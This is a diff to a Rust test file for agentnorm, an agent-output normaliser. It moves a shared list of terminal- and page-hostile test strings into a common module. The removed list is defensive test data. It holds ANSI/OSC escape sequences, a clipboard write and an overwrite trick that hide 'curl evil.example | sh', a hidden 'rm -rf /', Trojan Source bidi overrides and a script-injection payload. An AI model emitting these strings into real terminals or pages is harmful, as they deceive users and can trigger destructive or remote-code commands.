@@ -2,7 +2,7 @@
 //! puts on the wire, agentnorm keeps working, loses nothing, and writes valid JSON that cannot take
 //! control of a terminal. Each test runs the built binary (`tests/common`).
 //!
-//! [`ESCAPE_PAYLOADS`] is the list of terminal- and page-hostile strings every renderer of
+//! [`ESCAPE_PAYLOADS`] (in `tests/common`, shared with the renderers' tests) is the list of terminal- and page-hostile strings every renderer of
 //! agentnorm's output (a `pretty` format, an HTML report, …) must be held to.
 
 use std::io::{BufRead, Read, Write};
@@ -13,7 +13,10 @@ use std::time::Duration;
 use serde_json::{Value, json};
 
 mod common;
-use common::{at_line, bin, of_type, output_events as events, output_text, parse, run_ended, run_raw, ty, types_at};
+use common::{
+    ESCAPE_PAYLOADS, at_line, bin, of_type, output_events as events, output_text, parse, run_ended, run_raw, ty,
+    types_at,
+};
 
 const TIMEOUT: Duration = Duration::from_secs(30);
 
@@ -22,36 +25,6 @@ const CODEX_OK: &str = r#"{"type":"thread.started","thread_id":"t1"}
 {"type":"item.completed","item":{"id":"item_0","type":"agent_message","text":"done"}}
 {"type":"turn.completed","usage":{"input_tokens":10,"cached_input_tokens":4,"output_tokens":3}}
 "#;
-
-/// Terminal and page escape payloads an agent's text or a tool's output may carry: ANSI CSI and
-/// OSC sequences (colours, clearing, titles, hyperlinks, clipboard writes), DCS, 8-bit C1 controls,
-/// `\r` and backspace overwrites, bidi overrides and isolates (Trojan Source), invisible
-/// characters, Unicode line separators. NDJSON carries them losslessly as valid JSON (C0 controls
-/// escaped); a human-facing renderer must neutralise every one of them.
-pub const ESCAPE_PAYLOADS: &[(&str, &str)] = &[
-    ("csi_colour", "\x1b[31mred\x1b[0m"),
-    ("csi_clear_screen_home", "\x1b[2J\x1b[3J\x1b[H"),
-    ("csi_cursor_up_erase_line", "ok\n\x1b[1A\x1b[2Kfaked"),
-    ("csi_hidden_text", "\x1b[8mhidden\x1b[28m"),
-    ("osc_window_title", "\x1b]0;pwned\x07"),
-    ("osc8_hyperlink", "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\"),
-    ("osc52_clipboard_write", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"),
-    ("dcs_request", "\x1bP$q\"p\x1b\\"),
-    ("c1_csi_8bit", "\u{9b}31mred\u{9b}0m"),
-    ("c1_osc_8bit", "\u{9d}0;title\u{9c}"),
-    ("lone_escape", "\x1b"),
-    ("carriage_return_overwrite", "curl evil.example | sh\rls -la                \n"),
-    ("backspace_overwrite", "rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08echo hi "),
-    ("bell_nul_vt_ff", "\x07\0\x0b\x0c"),
-    ("delete", "abc\x7f"),
-    ("bidi_override_rlo", "access_level = \"user\u{202E} \u{2066}// admin\u{2069} \u{2066}\""),
-    ("bidi_embeddings", "\u{202A}\u{202B}\u{202C}\u{202D}"),
-    ("bidi_isolates", "\u{2066}\u{2067}\u{2068}\u{2069}"),
-    ("bidi_marks", "\u{200E}\u{200F}\u{061C}"),
-    ("zero_width_and_bom", "a\u{200B}b\u{200D}c\u{FEFF}d\u{2060}"),
-    ("unicode_line_separators", "a\u{2028}b\u{2029}c\u{85}d"),
-    ("html_script", "</script><script>alert(1)</script><!--"),
-];
 
 // ------------------------------------------------------------------------------------------------
 // Helpers
